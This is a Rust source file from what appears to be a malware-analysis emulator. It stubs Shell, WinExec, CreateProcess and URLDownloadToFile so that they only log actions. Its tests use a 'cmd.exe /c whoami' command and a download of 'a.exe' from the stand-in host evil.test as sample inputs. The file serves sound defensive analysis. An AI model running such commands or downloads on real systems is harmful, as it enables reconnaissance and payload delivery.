//! I/O & exec builtins: `Shell`, `WinExec`, `CreateProcessA/W`,
//! `URLDownloadToFile` — each logs an action and returns a plausible value
//! without doing anything outside the emulator (spec §4.E)

use crate::interpreter::actions::{ActionKind, ActionLog};
use crate::value::Value;

pub fn shell(command_line: &str, actions: &mut ActionLog) -> Value {
    actions.push(ActionKind::ExecuteCommand, vec![command_line.to_string()], command_line.to_string());
    Value::Int(0)
}

pub fn win_exec(command_line: &str, actions: &mut ActionLog) -> Value {
    actions.push(
        ActionKind::ProcessCreate,
        vec![command_line.to_string()],
        format!("WinExec {command_line}"),
    );
    Value::Int(32) // WinExec's own ">31 means success" sentinel
}

pub fn create_process(command_line: &str, actions: &mut ActionLog) -> Value {
    actions.push(
        ActionKind::ProcessCreate,
        vec![command_line.to_string()],
        format!("CreateProcess {command_line}"),
    );
    Value::Bool(true)
}

pub fn url_download_to_file(url: &str, local_file: &str, actions: &mut ActionLog) -> Value {
    actions.push(
        ActionKind::NetworkDownload,
        vec![url.to_string(), local_file.to_string()],
        format!("URLDownloadToFile {url} -> {local_file}"),
    );
    Value::Int(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_logs_the_full_command_line() {
        let mut log = ActionLog::new();
        shell("cmd.exe /c whoami", &mut log);
        assert_eq!(log.entries()[0].kind, ActionKind::ExecuteCommand);
        assert_eq!(log.entries()[0].arguments, vec!["cmd.exe /c whoami".to_string()]);
    }

    #[test]
    fn url_download_logs_both_url_and_destination() {
        let mut log = ActionLog::new();
        url_download_to_file("http://evil.test/a.exe", "a.exe", &mut log);
        assert_eq!(log.entries()[0].kind, ActionKind::NetworkDownload);
        assert_eq!(log.entries()[0].arguments.len(), 2);
    }
}
